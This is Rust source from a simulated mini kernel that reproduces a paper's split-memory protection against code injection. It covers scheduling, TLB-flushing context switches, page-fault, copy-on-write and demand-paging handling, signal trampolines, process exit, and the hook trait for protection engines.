    /// to a plain deadline run.
    pub fn run_to_seq(&mut self, max_cycles: u64, stop_seq: u64) -> RunExit {
        self.run_bounded(max_cycles, Some(stop_seq))
    }

    fn run_bounded(&mut self, max_cycles: u64, stop_seq: Option<u64>) -> RunExit {
        let deadline = self.sys.machine.cycles.saturating_add(max_cycles);
        loop {
            if self.sys.live_process_count() == 0 {
                return RunExit::AllExited;
            }
            if stop_seq.is_some_and(|s| self.sys.machine.tracer.emitted() >= s) {
                return RunExit::CyclesExhausted;
            }
            let Some(pid) = self.pick_next() else {
                return RunExit::Deadlock;
            };
            self.switch_to(pid);
            let slice_end =
                (self.sys.machine.cycles + self.sys.config.quantum_cycles).min(deadline);
            self.run_slice(pid, slice_end, stop_seq);
            self.save_current();
            if let Some((lp, eip)) = self.sys.livelocked.take() {
                return RunExit::Livelock { pid: lp, eip };
            }
            // Re-queue if still runnable.
            if self
                .sys
                .procs
                .get(&pid.0)
                .is_some_and(|p| p.state == ProcState::Ready)
            {
                self.sys.enqueue(pid);
            }
            if self.sys.machine.cycles >= deadline {
                return if self.sys.live_process_count() == 0 {
                    RunExit::AllExited
                } else {
                    RunExit::CyclesExhausted
                };
            }
        }
    }

    fn pick_next(&mut self) -> Option<Pid> {
        while let Some(pid) = self.sys.run_queue.pop_front() {
            if self
                .sys
                .procs
                .get(&pid.0)
                .is_some_and(|p| p.state == ProcState::Ready)
            {
                return Some(pid);
            }
        }
        None
    }

    fn switch_to(&mut self, pid: Pid) {
        if self.sys.loaded_cr3_for == Some(pid) {
            self.sys.current = Some(pid);
            return;
        }
        // A real context switch: charge scheduler cost, reload CR3 (which
        // flushes both TLBs — the paper's dominant overhead source, §4.6 —
        // unless tagged TLBs are on, in which case the entries are retagged
        // and survive).
        let cs = self.sys.machine.config.costs.context_switch;
        self.sys.charge(cs);
        self.sys.stats.context_switches += 1;
        let from = self.sys.loaded_cr3_for.map_or(u32::MAX, |p| p.0);
        self.sys.trace(sm_trace::mask::SCHED, || {
            sm_trace::TraceEvent::SchedSwitch { from, to: pid.0 }
        });
        let dir = self.sys.proc(pid).aspace.dir;
        let ctx = self.sys.proc(pid).ctx;
        // Load the register file first: set_cr3 writes the (architectural)
        // CR3 field inside it.
        self.sys.machine.cpu.regs = ctx;
        if self.sys.config.asid_tlbs {
            self.sys.machine.set_cr3_tagged(dir, pid.0 as u16);
        } else {
            self.sys.machine.set_cr3(dir);
        }
        self.sys.current = Some(pid);
        self.sys.loaded_cr3_for = Some(pid);
    }

    fn save_current(&mut self) {
        if let Some(pid) = self.sys.current {
            if let Some(p) = self.sys.procs.get_mut(&pid.0) {
                if p.state != ProcState::Zombie {
                    p.ctx = self.sys.machine.cpu.regs;
                }
            }
        }
        self.sys.current = None;
    }

    fn run_slice(&mut self, pid: Pid, slice_end: u64, stop_seq: Option<u64>) {
        // The superblock pipeline may only be entered when nothing has to
        // happen *between* retires: no chaos plan drawing per-step fault
        // decisions and no stop-sequence watch polling per-step trace
        // emissions. Signals, preemption and process-state changes only
        // originate from kernel code, which never runs between
        // `Trap::None` retires, so those checks keep their per-trap
        // cadence either way.
        let pipeline = self.sys.config.pipeline && self.sys.chaos.is_none() && stop_seq.is_none();
        loop {
            if self.sys.machine.cycles >= slice_end || std::mem::take(&mut self.sys.preempt) {
                return; // preempted or yielded
            }
            if stop_seq.is_some_and(|s| self.sys.machine.tracer.emitted() >= s) {
                return; // time-travel stop: seq reached mid-quantum
            }
            // One process lookup serves the state check, the pending-signal
            // probe and the user-cycle accounting for the step; `machine`
            // and `procs` are disjoint fields, so the borrow rides across
            // `step()`.
            let Some(mut p) = self.sys.procs.get_mut(&pid.0) else {
                return;
            };
            if p.state != ProcState::Ready || self.sys.current != Some(pid) {
                return;
            }
            if !p.signals.pending.is_empty() {
                if !self.deliver_pending_signals(pid) {
                    return; // killed by a signal
                }
                let Some(fresh) = self.sys.procs.get_mut(&pid.0) else {
                    return;
                };
                p = fresh;
            }
            let before = self.sys.machine.cycles;
            if pipeline && !self.sys.machine.cpu.regs.flag(flags::TF) {
                let (retired, trap) = self.sys.machine.run_block(slice_end);
                p.user_cycles += self.sys.machine.cycles - before;
                if retired == 0 && trap.is_none() {
                    // The budget was already exhausted: nothing executed,
                    // so no per-step housekeeping is due (the loop-top
                    // check returns). Matching the per-step path, which
                    // would not have called `after_step` either.
                    continue;
                }
                self.handle_trap(pid, trap);
                if retired > 0 {
                    // Each `Trap::None` retire's `after_step` would have
                    // cleared the fault watchdog; replay the net effect
                    // before the final trap's housekeeping runs.
                    self.sys.watchdog = None;
                }
                self.after_step(pid, trap);
                continue;
            }
            let trap = self.sys.machine.step();
            p.user_cycles += self.sys.machine.cycles - before;
            self.handle_trap(pid, trap);
            self.after_step(pid, trap);
        }
    }

    /// Dispatch one trap returned by user execution (shared by the
    /// per-step path and the superblock pipeline path of
    /// [`Kernel::run_slice`]).
    fn handle_trap(&mut self, pid: Pid, trap: Trap) {
        match trap {
            Trap::None => {}
            Trap::Syscall { vector: 0x80 } => {
                self.sys.charge(self.sys.machine.config.costs.syscall);
                self.sys.stats.syscalls += 1;
                syscall::handle(self, pid);
                if self.sys.machine.take_pending_singlestep() {
                    self.handle_debug(pid);
                }
            }
            Trap::Syscall { .. } => {
                // Unknown software interrupt: treat as illegal.
                self.raise_signal(pid, signal::SIGILL);
            }
            Trap::PageFault(pf) => {
                self.sys.charge(self.sys.machine.config.costs.exception);
                self.handle_fault(pid, pf);
            }
            Trap::InvalidOpcode { eip, opcode } => {
                self.sys.charge(self.sys.machine.config.costs.exception);
                self.handle_ud(pid, eip, opcode);
            }
            Trap::DebugStep => {
                self.sys.charge(self.sys.machine.config.costs.exception);
                self.handle_debug(pid);
            }
            Trap::DivideError => {
                self.sys.charge(self.sys.machine.config.costs.exception);
                self.raise_signal(pid, signal::SIGFPE);
            }
            Trap::ControlFlow(ev) => {
                self.handle_cfi(pid, ev);
                if self.sys.machine.take_pending_singlestep() {
                    self.handle_debug(pid);
                }
            }
            Trap::Halt => {
                // User-mode hlt is a privilege violation.
                self.raise_signal(pid, signal::SIGSEGV);
            }
        }
    }

    /// Post-step housekeeping: the livelock watchdog, then any fault
    /// injection the chaos plan schedules for this step.
    fn after_step(&mut self, pid: Pid, trap: Trap) {
        // Watchdog: consecutive page faults at one EIP with nothing
        // retiring in between mean the fault handler's work is being
        // undone every round (e.g. its TLB fill keeps getting flushed) —
        // the reload dance will never converge.
        if matches!(trap, Trap::PageFault(_)) {
            let eip = self.sys.machine.cpu.regs.eip;
            let count = match self.sys.watchdog {
                Some((p, e, c)) if p == pid && e == eip => c + 1,
                _ => 1,
            };
            self.sys.watchdog = Some((pid, eip, count));
            if count > self.sys.config.livelock_threshold {
                self.sys.log(Event::Note(format!(
                    "livelock: {pid} faulted {count} times at {eip:#010x} without retiring"
                )));
                self.sys.livelocked = Some((pid, eip));
                self.sys.preempt = true;
                return;
            }
        } else {
            self.sys.watchdog = None;
        }
        // The armed-window probe is only for the chaos plan's benefit;
        // chaos-free runs (every performance workload) skip the process
        // lookup entirely.
        let faults = if self.sys.chaos.is_some() {
            let in_window = self
                .sys
                .procs
                .get(&pid.0)
                .is_some_and(|p| p.pending_step_addr.is_some());
            match self.sys.chaos.as_mut() {
                Some(c) => c.on_step(in_window),
                None => StepFaults::default(),
            }
        } else {
            StepFaults::default()
        };
        if faults.flush {
            self.sys.trace(sm_trace::mask::CHAOS, || {
                sm_trace::TraceEvent::ChaosInject {
                    pid: pid.0,
                    kind: sm_trace::ChaosKind::Flush,
                }
            });
            self.sys.machine.flush_tlbs();
        }
        if faults.evict {
            self.sys.trace(sm_trace::mask::CHAOS, || {
                sm_trace::TraceEvent::ChaosInject {
                    pid: pid.0,
                    kind: sm_trace::ChaosKind::Evict,
                }
            });
            let iv = self.sys.machine.itlb.evict_one(faults.evict_draws[0]);
            let dv = self.sys.machine.dtlb.evict_one(faults.evict_draws[1]);
            if self.sys.machine.tracer.wants(sm_trace::mask::TLB) {
                for (side, victim, tlb) in [
                    (sm_trace::TlbSide::Instruction, iv, &self.sys.machine.itlb),
                    (sm_trace::TlbSide::Data, dv, &self.sys.machine.dtlb),
                ] {
                    if let Some(vpn) = victim {
                        let set = tlb.geometry().set_of(vpn) as u32;
                        let cycles = self.sys.machine.cycles;
                        self.sys.machine.tracer.record(
                            cycles,
                            sm_trace::TraceEvent::TlbEvict {
                                tlb: side,
                                vpn,
                                set,
                                cause: sm_trace::EvictCause::Chaos,
                            },
                        );
                    }
                }
            }
        }
        if faults.preempt {
            // A real preemption: route the next switch_to through the full
            // CR3 reload (and its TLB flush) even for the same process.
            self.sys.preempt = true;
            self.sys.loaded_cr3_for = None;
        }
        if faults.signal {
            // Only processes that opted into SIGUSR1 get the mid-window
            // signal — the default disposition is fatal, and chaos must
            // perturb *timing*, never protection verdicts. Nested frames
            // (already in a handler) are skipped for the same reason.
            let eligible = self.sys.procs.get(&pid.0).is_some_and(|p| {
                matches!(p.signals.action(signal::SIGUSR1), SigAction::Handler(_))
                    && p.signals.saved_context.is_none()
            });
            if eligible {
                self.raise_signal(pid, signal::SIGUSR1);
            }
        }
    }

    // ---- faults ------------------------------------------------------------

    /// Handle a page fault raised by user execution.
    fn handle_fault(&mut self, pid: Pid, pf: PageFaultInfo) {
        if !self.service_fault(pid, pf) {
            self.raise_signal(pid, signal::SIGSEGV);
        }
    }

    /// Try to service a fault; returns false if it should be fatal.
    /// Shared by the user path and kernel copy helpers.
    pub(crate) fn service_fault(&mut self, pid: Pid, pf: PageFaultInfo) -> bool {
        let vaddr = pf.addr;
        let entry = self.sys.pte_of(pid, vaddr);
        if self.sys.machine.tracer.wants(sm_trace::mask::FAULT) {
            let present = pte::has(entry, pte::PRESENT);
            // The disambiguation verdict (Algorithm 1): a fault on a present,
            // split, supervisor-restricted page is the engine's I/D probe;
            // everything else (demand paging, COW, genuine violations) is Other.
            let verdict = if present && pte::has(entry, pte::SPLIT) && !pte::has(entry, pte::USER) {
                if pf.access == sm_machine::cpu::Access::Fetch {
                    sm_trace::FaultVerdict::Instruction
                } else {
                    sm_trace::FaultVerdict::Data
                }
            } else {
                sm_trace::FaultVerdict::Other
            };
            let access = match pf.access {
                sm_machine::cpu::Access::Fetch => sm_trace::AccessKind::Fetch,
                sm_machine::cpu::Access::Read => sm_trace::AccessKind::Read,
                sm_machine::cpu::Access::Write => sm_trace::AccessKind::Write,
            };
            let eip = self.sys.machine.cpu.regs.eip;
            let cycles = self.sys.machine.cycles;
            self.sys.machine.tracer.record(
                cycles,
                sm_trace::TraceEvent::PageFault {
                    pid: pid.0,
                    addr: vaddr,
                    eip,
                    access,
                    present,
                    verdict,
                },
            );
        }
        if !pte::has(entry, pte::PRESENT) {
            // Demand paging, if a region covers the address.
            let covered = self.sys.proc(pid).aspace.find_vma(vaddr).is_some();
            if !covered {
                return false;
            }
            if !self.demand_page(pid, vaddr) {
                return self.oom_kill(pid, "demand paging");
            }
            return true;
        }
        // Present entry: a protection fault.
        if pf.access == sm_machine::cpu::Access::Write && pte::has(entry, pte::COW) {
            let writable_region = self
                .sys
                .proc(pid)
                .aspace
                .find_vma(vaddr)
                .is_some_and(crate::vma::Vma::writable);
            if !writable_region {
                return false;
            }
            if !self.cow_break(pid, vaddr, entry) {
                return self.oom_kill(pid, "copy-on-write");
            }
            return true;
        }
        if self.sys.machine.config.software_tlb {
            // Software-loaded TLBs (§4.7): a present entry means this was a
            // pure TLB miss. If the PTE itself authorises the access, the
            // kernel fills the TLB directly; split pages fall through to
            // the engine, which picks the code or data frame.
            let e_user = pte::has(entry, pte::USER);
            let e_wr = pte::has(entry, pte::WRITABLE);
            let e_nx = pte::has(entry, pte::NX);
            let allowed = match pf.privilege {
                Privilege::Kernel => pf.access != sm_machine::cpu::Access::Fetch,
                Privilege::User => {
                    e_user
                        && (pf.access != sm_machine::cpu::Access::Write || e_wr)
                        && !(pf.access == sm_machine::cpu::Access::Fetch
                            && e_nx
                            && self.sys.machine.config.nx_enabled)
                }
            };
            if allowed && !pte::has(entry, pte::SPLIT) {
                let te = TlbEntry {
                    vpn: pte::vpn(vaddr),
                    pfn: pte::frame(entry).0,
                    asid: 0, // fill() restamps with the active ASID
                    user: e_user,
                    writable: e_wr,
                    nx: e_nx,
                };
                let fill_cost = self.sys.machine.config.costs.soft_tlb_fill;
                self.sys.charge(fill_cost);
                self.sys.stats.soft_tlb_fills += 1;
                if pf.access == sm_machine::cpu::Access::Fetch {
                    self.sys.machine.fill_itlb(te);
                } else {
                    self.sys.machine.fill_dtlb(te);
                }
                return true;
            }
        }
        if pf.privilege == Privilege::User || self.sys.machine.config.software_tlb {
            // Not explicable by the generic handler: offer it to the engine
            // (the split-memory supervisor-bit faults land here).
            let pf_cost = self.sys.machine.config.costs.pf_handler;
            self.sys.charge(pf_cost);
            if self.engine.on_protection_fault(&mut self.sys, pid, pf) == FaultOutcome::Handled {
                return true;
            }
        }
        false
    }

    /// Map a fresh zeroed page for `vaddr`. Returns `false` on memory
    /// exhaustion, leaking nothing — a half-done mapping is rolled back.
    fn demand_page(&mut self, pid: Pid, vaddr: u32) -> bool {
        let base = pte::page_base(vaddr);
        let Some(vma) = self.sys.proc(pid).aspace.find_vma(vaddr) else {
            return false;
        };
        let mut flags = pte::USER;
        if vma.writable() {
            flags |= pte::WRITABLE;
        }
        let Ok(frame) = self.sys.alloc_zeroed() else {
            return false;
        };
        {
            let sys = &mut self.sys;
            let p = sys.procs.get_mut(&pid.0).expect("pid");
            if p.aspace
                .map_frame(&mut sys.machine, &mut sys.frames, base, frame, flags)
                .is_err()
            {
                // Pagetable growth failed after the data frame was handed
                // out: give the frame back before reporting the OOM.
                sys.frames.release(&mut sys.machine, frame);
                return false;
            }
        }
        let dp = self.sys.machine.config.costs.demand_page;
        self.sys.charge(dp);
        self.sys.stats.demand_pages += 1;
        self.engine.on_page_mapped(&mut self.sys, pid, base);
        true
    }

    /// Break a copy-on-write share. Returns `false` on memory exhaustion
    /// (the PTE is left untouched, so nothing is lost or leaked).
    fn cow_break(&mut self, pid: Pid, vaddr: u32, entry: u32) -> bool {
        let base = pte::page_base(vaddr);
        let old = pte::frame(entry);
        let cost = self.sys.machine.config.costs.cow_copy;
        self.sys.charge(cost);
        self.sys.stats.cow_breaks += 1;
        let new_frame = if self.sys.frames.refcount(old) > 1 {
            let Ok(f) = self.sys.alloc_copy(old) else {
                return false;
            };
            self.sys.frames.release(&mut self.sys.machine, old);
            f
        } else {
            old
        };
        let new_entry = pte::with_frame(
            (entry & !pte::COW) | pte::WRITABLE | pte::PRESENT,
            new_frame,
        );
        self.sys.set_pte(pid, base, new_entry);
        self.sys.machine.invlpg(base);
        self.sys
            .trace(sm_trace::mask::COW, || sm_trace::TraceEvent::CowBreak {
                pid: pid.0,
                vpn: pte::vpn(base),
                new_pfn: new_frame.0,
            });
        self.engine
            .on_cow_copied(&mut self.sys, pid, base, new_frame);
        true
    }

    /// Out-of-memory policy for fault-time allocations: terminate the
    /// offending process cleanly (SIGKILL, never a kernel panic). Always
    /// returns `true` so fault handlers can report "handled" — the
    /// process will be reaped before it runs again.
    fn oom_kill(&mut self, pid: Pid, what: &str) -> bool {
        self.sys
            .log(Event::Note(format!("oom during {what}: killing {pid}")));
        self.sys.stats.fatal_signals += 1;
        self.do_exit(pid, 128 + signal::SIGKILL as i32);
        true
    }

    fn handle_ud(&mut self, pid: Pid, eip: u32, opcode: u8) {
        match self
            .engine
            .on_invalid_opcode(&mut self.sys, pid, eip, opcode)
        {
            UdOutcome::Resume => {}
            UdOutcome::Unhandled => self.raise_signal(pid, signal::SIGILL),
            UdOutcome::Terminate => {
                // The paper's proposed recovery mode: transfer to an
                // application-registered callback instead of crashing.
                let handler = self.sys.proc(pid).recovery_handler;
                if let Some(h) = handler {
                    self.sys.log(Event::RecoveryEntered { pid, handler: h });
                    self.sys.machine.cpu.regs.eip = h;
                } else {
                    self.raise_signal(pid, signal::SIGILL);
                }
            }
        }
    }

    fn handle_cfi(&mut self, pid: Pid, ev: sm_machine::CfiEvent) {
        match self.engine.on_control_flow(&mut self.sys, pid, ev) {
            CfiOutcome::Allow => {}
            CfiOutcome::Logged => {
                // Observe/forensics: the violation is on the record but
                // the transfer stands; charge the detour like any other
                // absorbed exception.
                self.sys.charge(self.sys.machine.config.costs.exception);
            }
            CfiOutcome::Terminate => {
                self.sys.charge(self.sys.machine.config.costs.exception);
                // Same recovery path as a split-memory #UD detection: a
                // registered callback beats the fatal signal. CET delivers
                // #CP (a SIGSEGV) where split memory delivers SIGILL.
                let handler = self.sys.proc(pid).recovery_handler;
                if let Some(h) = handler {
                    self.sys.log(Event::RecoveryEntered { pid, handler: h });
                    self.sys.machine.cpu.regs.eip = h;
                } else {
                    self.raise_signal(pid, signal::SIGSEGV);
                }
            }
        }
    }

    fn handle_debug(&mut self, pid: Pid) {
        let pending = self.sys.proc(pid).pending_step_addr.is_some();
        if pending && self.engine.on_debug_trap(&mut self.sys, pid) {
            return;
        }
        // Not ours: a stray trap flag. Clear it and signal.
        self.sys.machine.cpu.regs.set_flag(flags::TF, false);
        self.raise_signal(pid, signal::SIGTRAP);
    }

    // ---- signals -----------------------------------------------------------

    /// Queue a signal for a process. Blocked syscalls are interruptible:
    /// the process is woken, the syscall restarts, and pending signals are
    /// delivered before it runs again.
    pub fn raise_signal(&mut self, pid: Pid, sig: u8) {
        let p = self.sys.proc_mut(pid);
        p.signals.raise(sig);
        if matches!(p.state, ProcState::Blocked(_)) {
            p.state = ProcState::Ready;
            self.sys.enqueue(pid);
        }
    }

    /// Deliver queued signals to the *current, on-CPU* process. Returns
    /// false if the process died.
    fn deliver_pending_signals(&mut self, pid: Pid) -> bool {
        loop {
            let Some(sig) = self.sys.proc_mut(pid).signals.take_pending() else {
                return true;
            };
            match self.sys.proc(pid).signals.action(sig) {
                SigAction::Ignore => continue,
                SigAction::Default => {
                    if signal::default_is_fatal(sig) {
                        self.sys.log(Event::Signal { pid, sig });
                        self.sys.stats.fatal_signals += 1;
                        self.do_exit(pid, 128 + sig as i32);
                        return false;
                    }
                }
                SigAction::Handler(handler) => {
                    self.push_signal_frame(pid, sig, handler);
                    self.sys.stats.handler_signals += 1;
                }
            }
        }
    }

    /// Build the user-space signal frame: save context kernel-side, write
    /// the sigreturn trampoline onto the stack (code on a data page — the
    /// paper's mixed-page case, installed via the engine's
    /// `write_user_code` hook), point the return address at it, and enter
    /// the handler with the signal number in `ebx`.
    fn push_signal_frame(&mut self, pid: Pid, sig: u8, handler: u32) {
        let regs = self.sys.machine.cpu.regs;
        self.sys.proc_mut(pid).signals.saved_context = Some(regs);
        // mov eax, SYS_SIGRETURN ; int 0x80
        let tramp: [u8; 7] = [0xB8, syscall::SYS_SIGRETURN as u8, 0, 0, 0, 0xCD, 0x80];
        let tramp_addr = (regs.get(sm_machine::cpu::Reg::Esp) - 8) & !7;
        // Fault-in the stack pages first so the writes below cannot fail.
        for addr in [tramp_addr - 4, tramp_addr + 7] {
            let _ = self.touch_user_page(pid, addr);
        }
        if self
            .engine
            .write_user_code(&mut self.sys, pid, tramp_addr, &tramp)
            .is_err()
        {
            // Unmappable stack: the process is beyond saving.
            self.raise_signal(pid, signal::SIGKILL);
            return;
        }
        let ret_slot = tramp_addr - 4;
        if self
            .sys
            .machine
            .write_u32(ret_slot, tramp_addr, Privilege::Kernel)
            .is_err()
        {
            self.raise_signal(pid, signal::SIGKILL);
            return;
        }
        let r = &mut self.sys.machine.cpu.regs;
        r.set(sm_machine::cpu::Reg::Esp, ret_slot);
        r.set(sm_machine::cpu::Reg::Ebx, sig as u32);
        r.eip = handler;
    }

    /// Ensure the page containing `addr` is mapped (running demand paging
    /// if needed). Returns false if the address is not mappable.
    pub(crate) fn touch_user_page(&mut self, pid: Pid, addr: u32) -> bool {
        let entry = self.sys.pte_of(pid, addr);
        if pte::has(entry, pte::PRESENT) {
            return true;
        }
        if self.sys.proc(pid).aspace.find_vma(addr).is_none() {
            return false;
        }
        self.demand_page(pid, addr)
    }

    /// Copy bytes from the current process's memory, resolving demand-page
    /// faults like a real `copy_from_user`. Returns `None` on a genuinely
    /// bad address.
    pub(crate) fn user_read(&mut self, pid: Pid, addr: u32, len: u32) -> Option<Vec<u8>> {
        loop {
            match self.sys.machine.copy_from_user(addr, len) {
                Ok(v) => return Some(v),
                Err(pf) => {
                    if !self.service_fault(pid, pf) {
                        return None;
                    }
                }
            }
        }
    }

    /// Copy bytes into the current process's memory, resolving faults.
    pub(crate) fn user_write(&mut self, pid: Pid, addr: u32, data: &[u8]) -> bool {
        loop {
            match self.sys.machine.copy_to_user(addr, data) {
                Ok(()) => return true,
                Err(pf) => {
                    if !self.service_fault(pid, pf) {
                        return false;
                    }
                }
            }
        }
    }

    /// Read a NUL-terminated string from the current process.
    pub(crate) fn user_cstr(&mut self, pid: Pid, addr: u32) -> Option<String> {
        loop {
            match self.sys.machine.read_cstr(addr, 4096) {
                Ok(v) => return String::from_utf8(v).ok(),
                Err(pf) => {
                    if !self.service_fault(pid, pf) {
                        return None;
                    }
                }
            }
        }
    }

    // ---- exit --------------------------------------------------------------

    /// Terminate a process: run engine teardown, free its memory, close its
    /// descriptors, zombify it and wake a waiting parent.
    pub fn do_exit(&mut self, pid: Pid, code: i32) {
        self.engine.on_teardown(&mut self.sys, pid);
        // Close descriptors (waking pipe peers).
        let fds: Vec<FdObject> = {
            let p = self.sys.proc_mut(pid);
            p.fds.iter_mut().filter_map(Option::take).collect()
        };
        for fd in fds {
            self.close_fd_object(fd);
        }
        {
            let sys = &mut self.sys;
            let p = sys.procs.get_mut(&pid.0).expect("pid");
            p.aspace.free_all(&mut sys.machine, &mut sys.frames);
            if p.state != ProcState::Zombie {
                sys.live_count -= 1;
            }
            p.state = ProcState::Zombie;
            p.exit_code = Some(code);
            // The single-step window dies with the process: exiting from
            // inside one (an armed `int 0x80`, a fatal signal mid-window)
            // would otherwise fire the trailing debug trap *after* this
            // teardown and restore a PTE into the freed address space —
            // re-growing a pagetable on the zombie that nothing ever frees.
            let armed = p.pending_step_addr.take();
            if let Some(addr) = armed {
                let cycles = sys.machine.cycles;
                sys.machine.tracer.emit(sm_trace::mask::STEP, cycles, || {
                    sm_trace::TraceEvent::StepDisarm {
                        pid: pid.0,
                        vpn: pte::vpn(addr),
                        cause: sm_trace::DisarmCause::Exit,
                    }
                });
            }
        }
        self.sys.log(Event::ProcessExit { pid, code });
        self.sys
            .trace(sm_trace::mask::PROC, || sm_trace::TraceEvent::ProcessExit {
                pid: pid.0,
                code,
            });
        if self.sys.current == Some(pid) {
            self.sys.machine.cpu.regs.set_flag(flags::TF, false);
            self.sys.current = None;
        }
        if self.sys.loaded_cr3_for == Some(pid) {
            self.sys.loaded_cr3_for = None;
        }
        // Tagged TLBs never flush on switch, so a dead process's entries
        // would otherwise linger forever under its ASID (its frames may be
        // recycled into another address space). Shoot them all down here —
        // the one full flush per exit is the tagged-mode analogue of the
        // per-switch flush the mode avoids.
        if self.sys.config.asid_tlbs {
            self.sys.machine.flush_tlbs();
        }
        // Wake anyone in waitpid.
        self.sys.wake_where(|r| matches!(r, WaitReason::Child));
    }

    /// Host-side reap: remove a zombie from the process table and return
    /// its exit code. The fleet driver uses this instead of a guest-side
    /// `waitpid` so tenant roots (which are their own parents) don't
    /// accumulate as zombies across thousands of spawn/exit churns.
    /// Returns `None` — and removes nothing — if the pid is unknown or
    /// not yet a zombie.
    pub fn reap(&mut self, pid: Pid) -> Option<i32> {
        let is_zombie = self
            .sys
            .procs
            .get(&pid.0)
            .is_some_and(|p| p.state == ProcState::Zombie);
        if !is_zombie {
            return None;
        }
        let p = self.sys.procs.remove(&pid.0).expect("checked above");
        p.exit_code
    }

    /// Drop one fd object, adjusting pipe endpoint counts and waking
    /// blocked peers.
    pub(crate) fn close_fd_object(&mut self, fd: FdObject) {
        match fd {
            FdObject::PipeRead(id) => {
                self.sys.pipes.drop_reader(id);
                self.sys.wake_where(|r| *r == WaitReason::PipeWritable(id));
            }
            FdObject::PipeWrite(id) => {
                self.sys.pipes.drop_writer(id);
                self.sys.wake_where(|r| *r == WaitReason::PipeReadable(id));
            }
            FdObject::Socket { rx, tx } => {
                self.sys.pipes.drop_reader(rx);
                self.sys.pipes.drop_writer(tx);
                self.sys.wake_where(|r| {
                    *r == WaitReason::PipeWritable(rx) || *r == WaitReason::PipeReadable(tx)
                });
            }
            FdObject::Console | FdObject::File { .. } => {}
        }
    }
}
