//! Mini operating system for the `sm-machine` simulator.
//!
//! This crate is the Linux-2.6.13 stand-in the paper's kernel patch needs:
//! processes with two-level pagetables and VMAs, a round-robin scheduler
//! whose context switches reload CR3 (flushing both TLBs), Linux-flavoured
//! system calls, a ram filesystem, pipes, a loopback network, `fork` with
//! copy-on-write, demand paging, signals with on-stack trampolines, and an
//! executable loader with optional stack ASLR and verified shared/dynamic
//! libraries.
//!
//! Protection schemes plug in through [`engine::ProtectionEngine`], whose
//! hooks correspond one-to-one with the kernel patch points the paper
//! enumerates in §5 (ELF loader, page-fault handler, debug-interrupt
//! handler, memory management, signal handling). The kernel itself ships
//! only the unprotected [`engine::NullEngine`]; the split-memory engine and
//! the execute-disable baseline live in `sm-core`.
//!
//! # Example
//!
//! ```
//! use sm_kernel::engine::NullEngine;
//! use sm_kernel::kernel::{Kernel, RunExit};
//! use sm_kernel::userlib::ProgramBuilder;
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let prog = ProgramBuilder::new("/bin/true")
//!     .code("_start: mov ebx, 0\n call exit")
//!     .build()?;
//! let mut kernel = Kernel::with_engine(Box::new(NullEngine));
//! let pid = kernel.spawn(&prog.image)?;
//! assert_eq!(kernel.run(1_000_000), RunExit::AllExited);
//! assert_eq!(kernel.sys.proc(pid).exit_code, Some(0));
//! # Ok(())
//! # }
//! ```

pub mod addrspace;
pub mod engine;
pub mod events;
pub mod fs;
pub mod image;
pub mod kernel;
pub mod net;
pub mod process;
pub mod signal;
pub mod snapshot;
pub mod stats;
pub mod syscall;
pub mod userlib;
pub mod vma;

mod loader;

pub use kernel::{Kernel, KernelConfig, RunExit, SpawnError, System};
pub use process::Pid;
