//! Protection-engine hooks.
//!
//! The paper's split-memory system is a set of small patches to five kernel
//! subsystems (ELF loader, page-fault handler, debug-interrupt handler,
//! memory management, signal handling — §5.1–5.5). This trait exposes
//! exactly those patch points so protection schemes plug into the kernel the
//! way the paper's patch plugs into Linux. `sm-core` provides the split
//! memory engine, the execute-disable baseline and the combined engine; the
//! kernel ships only the [`NullEngine`] (an unprotected system).

use crate::image::ExecImage;
use crate::kernel::System;
use crate::process::Pid;
use sm_machine::cpu::PageFaultInfo;
use sm_machine::pte::Frame;
use sm_machine::CfiEvent;

/// Outcome of [`ProtectionEngine::on_protection_fault`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultOutcome {
    /// Not the engine's fault to handle; generic handling continues
    /// (usually ending in SIGSEGV).
    Unhandled,
    /// The engine serviced the fault (e.g. performed a TLB reload); restart
    /// the faulting instruction.
    Handled,
}

/// Outcome of [`ProtectionEngine::on_invalid_opcode`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UdOutcome {
    /// A genuine illegal instruction; deliver SIGILL.
    Unhandled,
    /// The engine detected and *absorbed* the event (observe/forensics
    /// response modes); resume the process.
    Resume,
    /// The engine detected injected-code execution and the response policy
    /// says the process must not continue (break mode). The kernel
    /// transfers to the process's recovery handler if one is registered
    /// (the paper's proposed recovery mode) and otherwise delivers SIGILL.
    Terminate,
}

/// Outcome of [`ProtectionEngine::on_control_flow`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CfiOutcome {
    /// The transfer is legitimate (or the engine does not police this
    /// kind); execution continues with no cost charged.
    Allow,
    /// A violation was detected but the response policy absorbs it
    /// (observe/forensics modes); execution continues.
    Logged,
    /// A violation was detected and the response policy says the process
    /// must not continue (break mode). The kernel transfers to the
    /// process's recovery handler if one is registered and otherwise
    /// delivers SIGSEGV — the software analogue of CET's `#CP` fault.
    Terminate,
}

/// Kernel patch points for a memory-protection scheme.
///
/// Every hook receives the [`System`] (machine + processes + fs + logs) so
/// it can manipulate pagetables, TLBs and process state; engines keep their
/// own per-process bookkeeping keyed by [`Pid`].
///
/// `Send` is a supertrait so whole kernels can move between threads: the
/// fleet simulator drives independent kernel cells from a worker pool, and
/// engines are per-kernel plain data with no shared interior state.
pub trait ProtectionEngine: Send {
    /// Human-readable engine name (used in reports).
    fn name(&self) -> &'static str;

    /// Downcasting support, so harnesses can read engine statistics back
    /// out of a running [`crate::kernel::Kernel`].
    fn as_any(&self) -> &dyn std::any::Any;

    /// A region `[start, end)` of `pid` was mapped eagerly (program load,
    /// library load, file-backed mmap). The ELF-loader patch point
    /// (paper §5.1): split or NX-mark the pages here.
    fn on_region_mapped(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        let _ = (sys, pid, start, end);
    }

    /// A single page was demand-mapped at `vaddr` (paper §5.4: "the demand
    /// paging system was modified to allocate two pages instead of one").
    fn on_page_mapped(&mut self, sys: &mut System, pid: Pid, vaddr: u32) {
        let _ = (sys, pid, vaddr);
    }

    /// A protection (present-entry) page fault the generic handler cannot
    /// explain: the page-fault-handler patch point (paper §5.2,
    /// Algorithm 1).
    fn on_protection_fault(
        &mut self,
        sys: &mut System,
        pid: Pid,
        pf: PageFaultInfo,
    ) -> FaultOutcome {
        let _ = (sys, pid, pf);
        FaultOutcome::Unhandled
    }

    /// Single-step trap with [`crate::process::Process::pending_step_addr`]
    /// set: the debug-interrupt-handler patch point (paper §5.3,
    /// Algorithm 2). Return `true` if consumed.
